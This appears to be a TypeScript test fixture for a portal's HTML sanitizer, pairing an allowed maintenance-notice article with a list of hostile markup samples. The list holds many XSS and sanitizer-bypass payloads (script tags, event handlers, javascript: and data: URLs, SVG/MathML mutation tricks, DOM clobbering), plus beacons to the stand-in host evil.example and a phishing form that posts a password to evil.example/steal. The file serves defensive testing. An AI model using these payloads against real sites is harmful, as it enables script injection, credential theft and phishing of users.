/** The base URL of the stories' images: the page's own origin, so they load. */
export const imageBase = `${location.origin}/images/`;

/** News by an operator, with everything that is allowed. */
export const article = `
  <h2>Maintenance window this weekend</h2>
  <p>Trading servers restart on <b>Saturday</b> between 02:00 and 04:00 UTC. <em>Open positions are not affected.</em></p>
  <ul><li>Binary Tree stays available</li><li>Withdrawals wait until 04:00</li></ul>
  <blockquote><p>Nothing has to be done by members.</p></blockquote>
  <p>Details: <a href="https://status.example/weekend">status page</a> or <a href="mailto:help@portal.example">mail us</a>.</p>
  <table><tr><th>Server</th><th>Window</th></tr><tr><td>MT5 live</td><td>02:00 – 03:00</td></tr></table>
  <p><code>GET /packages</code> answers as before.</p>`;

/**
 * Markup that tries to run `boom`, to reach `evil.example`, to imitate the portal or to access its page.
 * Written for this portal; each is a separate family.
 */
export const hostile: readonly string[] = [
  // Scripts, complete and in parts.
  '<script>boom()</script>',
  '<SCRIPT SRC="https://evil.example/a.js"></SCRIPT>',
  '<scr<script>ipt>boom()</scr</script>ipt>',
  '<script type="module">import "https://evil.example/m.js"</script>',
  '<script/x>boom()</script/x>',
  '<<script>boom()//<</script>',
  '<script>//<!--\nboom()//--></script>',
  '<noscript><p title="</noscript><img src=x onerror=boom()>">',
  '<template><img src=x onerror=boom()></template>',
  '<template shadowrootmode="open"><img src=x onerror=boom()></template>',
  // Handlers.
  '<img src=x onerror=boom()>',
  '<img/src="x"/onerror="boom()"//>',
  '<img src=x oNeRrOr=boom()>',
  '<img src=x onerror\n=boom()>',
  '<img src=x onerror\u0000=boom()>',
  '<img src=x onerror="&#98;oom()">',
  '<img src onerror=boom() srcset=,x>',
  '<p onmouseover=boom()>hover</p>',
  '<p onpointerenter="boom()" style="position:fixed;inset:0">big</p>',
  '<div onfocus=boom() tabindex=0 autofocus>focus</div>',
  '<details open ontoggle=boom()><summary>x</summary></details>',
  '<b onbeforetoggle=boom() popover id=p>pop</b>',
  '<span onanimationstart=boom() style="animation:rise 1s">a</span>',
  '<div onscrollsnapchange=boom()>s</div>',
  '<marquee onstart=boom()>m</marquee>',
  '<body onload=boom()>',
  '<body onpageshow=boom()><p>b',
  '<video src=x onerror=boom()></video>',
  '<audio onerror=boom()><source src=x></audio>',
  '<video poster="https://evil.example/p.png"></video>',
  // Addresses.
  '<a href="javascript:boom()">j</a>',
  '<a href="JaVaScRiPt:boom()">j</a>',
  '<a href=" \u0001javascript:boom()">j</a>',
  '<a href="java\tscript:boom()">j</a>',
  '<a href="java\nscript:boom()">j</a>',
  '<a href="&#106;avascript:boom()">j</a>',
  '<a href="javascript&colon;boom()">j</a>',
  '<a href="data:text/html,<script>boom()</script>">d</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4=">d</a>',
  '<a href="vbscript:boom()">v</a>',
  '<a href="blob:https://evil.example/1">b</a>',
  '<a href="http://evil.example/plain">h</a>',
  '<a href="//evil.example">two slashes</a>',
  '<a href="/user/withdraw?amount=1">own path</a>',
  '<a href="https://portal.example@evil.example/login">userinfo</a>',
  '<a href="https://portal.example" target="_top" rel="opener" ping="https://evil.example/p" download>t</a>',
  '<a href="intent://evil.example#Intent;scheme=https;end">i</a>',
  '<a href="tel:+1900">call</a>',
  '<a href="\\\\evil.example\\x">back slashes</a>',
  '<area href="javascript:boom()" shape=default><map name=m></map>',
  '<base href="https://evil.example/">',
  // External images.
  '<img src="https://evil.example/pixel.gif?member=1">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="\\\\evil.example\\pixel.gif">',
  '<img src="http:evil.example/pixel.gif">',
  "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='boom()'/>\">",
  '<img src="javascript:boom()">',
  '<img src="../api/notification-change-status">',
  '<img src="x" srcset="https://evil.example/2x.png 2x" sizes=1px lowsrc="https://evil.example/l">',
  '<picture><source srcset="https://evil.example/s.webp"><img src=x></picture>',
  '<table background="https://evil.example/bg.png"><tr><td background="https://evil.example/bg2.png">x</table>',
  '<input type=image src="https://evil.example/i.png" onerror=boom()>',
  // Styles.
  '<style>@import "https://evil.example/c.css";body{display:none}</style>',
  '<p style="background:url(https://evil.example/bg.png)">s</p>',
  '<div style="position:fixed;inset:0;z-index:9999;background:white">Session expired, sign in at evil.example</div>',
  '<link rel=stylesheet href="https://evil.example/c.css">',
  '<link rel=prefetch href="https://evil.example/p">',
  '<p class="visually-hidden" id=root>class and id</p>',
  // Phishing forms.
  '<form action="https://evil.example/steal"><input name=password type=password><button>Sign In</button></form>',
  '<button formaction="javascript:boom()">Sign In</button>',
  '<input autofocus onfocus=boom()>',
  '<select><option onclick=boom()>o</option></select>',
  '<textarea autofocus onfocus=boom()></textarea>',
  '<isindex type=image src=x onerror=boom()>',
  '<keygen autofocus onfocus=boom()>',
  '<fieldset name=body></fieldset><output id=x name=y>',
  // Frames and plugins.
  '<iframe src="javascript:boom()"></iframe>',
  '<iframe srcdoc="<script>parent.boom()</script>"></iframe>',
  '<object data="javascript:boom()"></object>',
  '<embed src="https://evil.example/e.swf">',
  '<frameset onload=boom()><frame src="javascript:boom()"></frameset>',
  '<portal src="https://evil.example"></portal>',
  // SVG and MathML, and their hidden content.
  '<svg onload=boom()>',
  '<svg><script>boom()</script></svg>',
  '<svg><a xlink:href="javascript:boom()"><text>t</text></a></svg>',
  '<svg><animate onbegin=boom() attributeName=x dur=1s>',
  '<svg><set attributeName=href to="javascript:boom()"></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=boom() />#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=boom()></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=boom()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=boom()&gt;">',
  '<math href="javascript:boom()">m</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=boom()></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=boom()>',
  // Clobbering.
  '<a id=document name=body></a><a id=document></a>',
  '<img name=getElementById src=x>',
  '<form id=attributes><input name=nodeName></form>',
  '<form><input name=parentNode><input name=childNodes></form>',
  // Broken markup.
  '<p title="><img src=x onerror=boom()>',
  '<!--><img src=x onerror=boom()>-->',
  '<![CDATA[<img src=x onerror=boom()>]]>',
  '<?xml version="1.0"?><img src=x onerror=boom()>',
  '<title><img src=x onerror=boom()></title>',
  '<xmp><p title="</xmp><img src=x onerror=boom()>">',
  '<plaintext><img src=x onerror=boom()>',
  '<x-card onclick=boom() is=x-card slot=a>custom</x-card>',
  '<p is="x-card" data-x=1 aria-label=lie role=alert contenteditable accesskey=a draggable=true hidden>p</p>',
  '<p data-x=1>data</p>',
  '<p aria-label=lie role=alert>words for a screen reader alone</p>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<dialog open>Signed out</dialog>',
  `${'<div>'.repeat(600)}<img src=x onerror=boom()>`,
];
